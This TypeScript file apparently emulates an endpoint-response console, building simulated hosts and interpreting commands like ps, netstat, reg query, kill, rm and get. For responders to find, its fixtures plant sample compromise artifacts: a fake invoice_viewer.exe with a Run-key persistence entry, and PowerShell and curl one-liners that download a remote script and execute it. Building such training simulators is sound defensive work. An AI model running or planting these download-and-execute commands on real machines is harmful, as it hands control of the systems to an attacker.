/**
 * What an RTR session sees on a host: processes, files, network connections and registry keys, built
 * deterministically from the host id and platform the first time a session touches the host, and the
 * interpreter of the commands the emulator runs on them (ps, ls, cd, cat, netstat, reg query, filehash,
 * kill, rm, get, runscript, ...). Output is plain text like the sensor's; commands that change the
 * host (kill, rm, reg delete) change this state, so a second ps or ls shows the difference.
 */
import { createHash } from 'node:crypto';
import { SeededRandom } from './random.ts';

export interface SimProcess {
  pid: number;
  name: string;
  path: string;
  user: string;
}

export interface SimFile {
  path: string;
  content: string;
}

export interface SimConnection {
  protocol: 'TCP' | 'UDP';
  local: string;
  remote: string;
  state: string;
  pid: number;
}

export type Platform = 'Windows' | 'Mac' | 'Linux';

/** The simulated contents of one host. */
export interface SimHost {
  aid: string;
  platform: Platform;
  processes: SimProcess[];
  files: Map<string, SimFile>;
  connections: SimConnection[];
  /** Registry key (upper-cased) -> value name -> data; Windows only. */
  registry: Map<string, Map<string, string>>;
}

/** What running one command did. */
export interface CommandOutcome {
  stdout: string;
  stderr: string;
  /** New working directory (cd). */
  pwd?: string;
  /** A file the command uploaded to the cloud (get). */
  uploaded?: { path: string; sha256: string; size: number; content: string };
}

const WINDOWS_PROCESSES = [
  ['System', 'System', 'NT AUTHORITY\\SYSTEM'],
  ['smss.exe', 'C:\\Windows\\System32\\smss.exe', 'NT AUTHORITY\\SYSTEM'],
  ['lsass.exe', 'C:\\Windows\\System32\\lsass.exe', 'NT AUTHORITY\\SYSTEM'],
  ['svchost.exe', 'C:\\Windows\\System32\\svchost.exe', 'NT AUTHORITY\\SYSTEM'],
  ['explorer.exe', 'C:\\Windows\\explorer.exe', 'CORP\\user'],
  ['CSFalconService.exe', 'C:\\Program Files\\CrowdStrike\\CSFalconService.exe', 'NT AUTHORITY\\SYSTEM'],
  ['powershell.exe', 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'CORP\\user'],
  ['invoice_viewer.exe', 'C:\\Users\\Public\\Downloads\\invoice_viewer.exe', 'CORP\\user'],
] as const;

const UNIX_PROCESSES = [
  ['launchd', '/sbin/launchd', 'root'],
  ['sshd', '/usr/sbin/sshd', 'root'],
  ['falcon-sensor', '/opt/CrowdStrike/falcon-sensor', 'root'],
  ['bash', '/bin/bash', 'admin'],
  ['python3', '/usr/bin/python3', 'admin'],
  ['kworkerd', '/tmp/.cache/kworkerd', 'admin'],
] as const;

function windowsFiles(aid: string): [string, string][] {
  return [
    ['C:\\Windows\\System32\\drivers\\etc\\hosts', '127.0.0.1 localhost\r\n'],
    ['C:\\Windows\\Temp\\setup.log', `installer finished on ${aid.slice(0, 8)}\r\n`],
    ['C:\\Users\\Public\\Downloads\\invoice_viewer.exe', `MZ-invoice-viewer-${aid}`],
    ['C:\\Users\\Public\\Downloads\\invoice.pdf', `%PDF-1.7 invoice for ${aid.slice(0, 6)}`],
    ['C:\\ProgramData\\update.ps1', 'Invoke-WebRequest http://198.51.100.23/p.ps1 | iex\r\n'],
  ];
}

function unixFiles(aid: string, home: string): [string, string][] {
  return [
    ['/etc/hosts', '127.0.0.1 localhost\n'],
    ['/etc/passwd', 'root:x:0:0:root:/root:/bin/bash\nadmin:x:1000:1000::/home/admin:/bin/bash\n'],
    [`${home}/.bash_history`, 'curl -s http://198.51.100.23/k | sh\n'],
    ['/tmp/.cache/kworkerd', `ELF-kworkerd-${aid}`],
    // Long enough (about 18 KB) that reading it takes several output chunks.
    ['/var/log/auth.log', authLog(aid)],
  ];
}

function authLog(aid: string): string {
  return Array.from(
    { length: 240 },
    (_, i) =>
      `Nov 19 ${String(i % 24).padStart(2, '0')}:00:00 sshd[${1000 + i}]: Accepted publickey for admin from 203.0.113.7 (${aid.slice(0, 8)})\n`,
  ).join('');
}

/** Builds the simulated contents of a host (same aid and platform, same host). */
export function buildHost(aid: string, platform: Platform): SimHost {
  const rng = new SeededRandom(
    Number.parseInt(createHash('sha256').update(aid).digest('hex').slice(0, 8), 16),
  );
  const windows = platform === 'Windows';
  const table = windows ? WINDOWS_PROCESSES : UNIX_PROCESSES;
  let pid = windows ? 4 : 1;
  const processes = table.map(([name, path, user]) => {
    const process = { pid, name, path, user };
    pid += rng.int(8, 900);
    return process;
  });
  const home = platform === 'Mac' ? '/Users/admin' : '/home/admin';
  const files = new Map<string, SimFile>();
  for (const [path, content] of windows ? windowsFiles(aid) : unixFiles(aid, home))
    files.set(key(platform, path), { path, content });
  const suspicious = processes[processes.length - 1] as SimProcess;
  const octet = rng.int(2, 250);
  const connections: SimConnection[] = [
    {
      protocol: 'TCP',
      local: `10.0.${octet}.${rng.int(2, 250)}:${rng.int(49152, 65000)}`,
      remote: '198.51.100.23:443',
      state: 'ESTABLISHED',
      pid: suspicious.pid,
    },
    {
      protocol: 'TCP',
      local: `0.0.0.0:${windows ? 135 : 22}`,
      remote: '0.0.0.0:0',
      state: 'LISTENING',
      pid: (processes[windows ? 3 : 1] as SimProcess).pid,
    },
    {
      protocol: 'UDP',
      local: '0.0.0.0:53',
      remote: '*:*',
      state: '',
      pid: (processes[windows ? 3 : 1] as SimProcess).pid,
    },
  ];
  const registry = new Map<string, Map<string, string>>();
  if (windows) {
    registry.set(
      'HKLM\\SOFTWARE\\MICROSOFT\\WINDOWS\\CURRENTVERSION\\RUN',
      new Map([
        ['SecurityHealth', '%windir%\\system32\\SecurityHealthSystray.exe'],
        ['InvoiceViewer', 'C:\\Users\\Public\\Downloads\\invoice_viewer.exe'],
      ]),
    );
    registry.set(
      'HKLM\\SYSTEM\\CURRENTCONTROLSET\\SERVICES\\CSAGENT',
      new Map([
        ['Start', '1'],
        ['Type', '2'],
      ]),
    );
  }
  return { aid, platform, processes, files, connections, registry };
}

/** Windows paths compare without case; others exactly. */
function key(platform: Platform, path: string): string {
  return platform === 'Windows' ? path.toLowerCase() : path;
}

function separator(host: SimHost): string {
  return host.platform === 'Windows' ? '\\' : '/';
}

/** The working directory a new session starts in. */
export function initialPwd(platform: Platform): string {
  return platform === 'Windows' ? 'C:\\' : '/';
}

/** Splits a command line into words, honouring double quotes. */
export function splitCommand(commandString: string): string[] {
  const words: string[] = [];
  for (const match of commandString.matchAll(/"([^"]*)"|(\S+)/g)) words.push(match[1] ?? match[2] ?? '');
  return words;
}

function resolve(host: SimHost, pwd: string, path: string): string {
  const sep = separator(host);
  const absolute = host.platform === 'Windows' ? /^[a-z]:\\/i.test(path) : path.startsWith('/');
  const joined = absolute ? path : `${pwd.endsWith(sep) ? pwd : pwd + sep}${path}`;
  return joined.length > 3 && joined.endsWith(sep) ? joined.slice(0, -1) : joined;
}

function findFile(host: SimHost, pwd: string, path: string | undefined): SimFile | undefined {
  return path === undefined ? undefined : host.files.get(key(host.platform, resolve(host, pwd, path)));
}

function listDirectory(host: SimHost, dir: string): string[] {
  const sep = separator(host);
  const prefix = key(host.platform, dir.endsWith(sep) ? dir : dir + sep);
  const names = new Set<string>();
  for (const [k, file] of host.files) {
    if (!k.startsWith(prefix)) continue;
    const rest = file.path.slice(prefix.length);
    const first = rest.split(sep)[0] as string;
    names.add(rest.includes(sep) ? `${first}${sep}` : first);
  }
  return [...names].sort();
}

export function sha256Of(content: string): string {
  return createHash('sha256').update(content).digest('hex');
}

function md5Of(content: string): string {
  return createHash('md5').update(content).digest('hex');
}

const fail = (stderr: string): CommandOutcome => ({ stdout: '', stderr });

/** Runs one command on a host (the caller has checked the command is allowed for its route). */
export function runCommand(
  host: SimHost,
  pwd: string,
  baseCommand: string,
  commandString: string,
  scripts: ReadonlyMap<string, string>,
): CommandOutcome {
  const words = splitCommand(commandString);
  // "reg query" and friends are two words; their arguments start after both.
  const args = words.slice(baseCommand.split(' ').length);
  switch (baseCommand) {
    case 'pwd':
      return { stdout: `${pwd}\n`, stderr: '' };
    case 'cd': {
      const target = resolve(host, pwd, args[0] ?? initialPwd(host.platform));
      if (listDirectory(host, target).length === 0 && target !== initialPwd(host.platform))
        return fail(`The system cannot find the path specified: ${target}`);
      return { stdout: `${target}\n`, stderr: '', pwd: target };
    }
    case 'ls': {
      const dir = resolve(host, pwd, args[0] ?? pwd);
      const entries = listDirectory(host, dir);
      if (entries.length === 0) return fail(`Cannot find path '${dir}' because it does not exist.`);
      return { stdout: `Directory listing for ${dir}\n\n${entries.join('\n')}\n`, stderr: '' };
    }
    case 'cat': {
      const file = findFile(host, pwd, args[0]);
      return file ? { stdout: file.content, stderr: '' } : fail(`No such file: ${args[0] ?? '(none given)'}`);
    }
    case 'ps':
      return {
        stdout: `Name PID User Path\n${host.processes.map((p) => `${p.name} ${p.pid} ${p.user} ${p.path}`).join('\n')}\n`,
        stderr: '',
      };
    case 'netstat':
      return {
        stdout: `Proto Local Remote State PID\n${host.connections
          .map((c) => `${c.protocol} ${c.local} ${c.remote} ${c.state} ${c.pid}`.replace(/ +/g, ' '))
          .join('\n')}\n`,
        stderr: '',
      };
    case 'filehash': {
      const file = findFile(host, pwd, args[0]);
      if (!file) return fail(`No such file: ${args[0] ?? '(none given)'}`);
      return {
        stdout: `Path: ${file.path}\nMD5: ${md5Of(file.content)}\nSHA256: ${sha256Of(file.content)}\n`,
        stderr: '',
      };
    }
    case 'reg query':
    case 'reg delete':
      return registry(host, baseCommand, args);
    case 'kill': {
      const pid = Number(args[0]);
      const index = host.processes.findIndex((p) => p.pid === pid);
      if (!Number.isInteger(pid) || index < 0)
        return fail(`No process with PID ${args[0] ?? '(none given)'}`);
      const [killed] = host.processes.splice(index, 1);
      host.connections = host.connections.filter((c) => c.pid !== pid);
      return { stdout: `Process ${killed?.name} (PID ${pid}) killed\n`, stderr: '' };
    }
    case 'rm': {
      const path = args.find((a) => !a.startsWith('-'));
      const file = findFile(host, pwd, path);
      if (!file) return fail(`No such file: ${path ?? '(none given)'}`);
      host.files.delete(key(host.platform, file.path));
      return { stdout: `Removed ${file.path}\n`, stderr: '' };
    }
    case 'get': {
      const file = findFile(host, pwd, args[0]);
      if (!file) return fail(`No such file: ${args[0] ?? '(none given)'}`);
      const sha256 = sha256Of(file.content);
      return {
        stdout: `File ${file.path} uploaded (sha256 ${sha256})\n`,
        stderr: '',
        uploaded: { path: file.path, sha256, size: Buffer.byteLength(file.content), content: file.content },
      };
    }
    case 'runscript':
      return runscript(args, scripts);
    case 'ipconfig':
      return { stdout: `${host.connections[0]?.local.split(':')[0] ?? '10.0.0.2'}\n`, stderr: '' };
    case 'env':
      return {
        stdout: host.platform === 'Windows' ? 'COMPUTERNAME=host\nOS=Windows_NT\n' : 'SHELL=/bin/bash\n',
        stderr: '',
      };
    default:
      // Accepted commands the emulator does not model (help, history, mount, ...) answer empty output.
      return { stdout: '', stderr: '' };
  }
}

function registry(host: SimHost, baseCommand: string, args: readonly string[]): CommandOutcome {
  if (host.platform !== 'Windows') return fail(`${baseCommand} is not supported on ${host.platform}`);
  const path = (args[0] ?? '').toUpperCase();
  const values = host.registry.get(path);
  if (!values)
    return fail(`ERROR: The system was unable to find the specified registry key or value: ${args[0] ?? ''}`);
  if (baseCommand === 'reg delete') {
    const name = args[1];
    if (name === undefined) {
      host.registry.delete(path);
      return { stdout: `Deleted ${args[0]}\n`, stderr: '' };
    }
    if (!values.delete(name)) return fail(`ERROR: no value ${name} in ${args[0]}`);
    return { stdout: `Deleted ${args[0]} ${name}\n`, stderr: '' };
  }
  return {
    stdout: `${args[0]}\n${[...values].map(([name, data]) => `    ${name}    REG_SZ    ${data}`).join('\n')}\n`,
    stderr: '',
  };
}

function runscript(args: readonly string[], scripts: ReadonlyMap<string, string>): CommandOutcome {
  const cloudFile = args.find((a) => a.startsWith('-CloudFile='))?.slice('-CloudFile='.length);
  if (cloudFile !== undefined) {
    const name = cloudFile.replace(/^"|"$/g, '');
    const content = scripts.get(name);
    if (content === undefined) return fail(`Script ${name} not found in the cloud`);
    return { stdout: `[${name}] ran ${content.split('\n').length} line(s)\n`, stderr: '' };
  }
  const raw = args.find((a) => a.startsWith('-Raw='));
  if (raw !== undefined) return { stdout: `[raw] ran ${raw.length - 5} character(s)\n`, stderr: '' };
  return fail('runscript needs -CloudFile=<name> or -Raw=<script>');
}
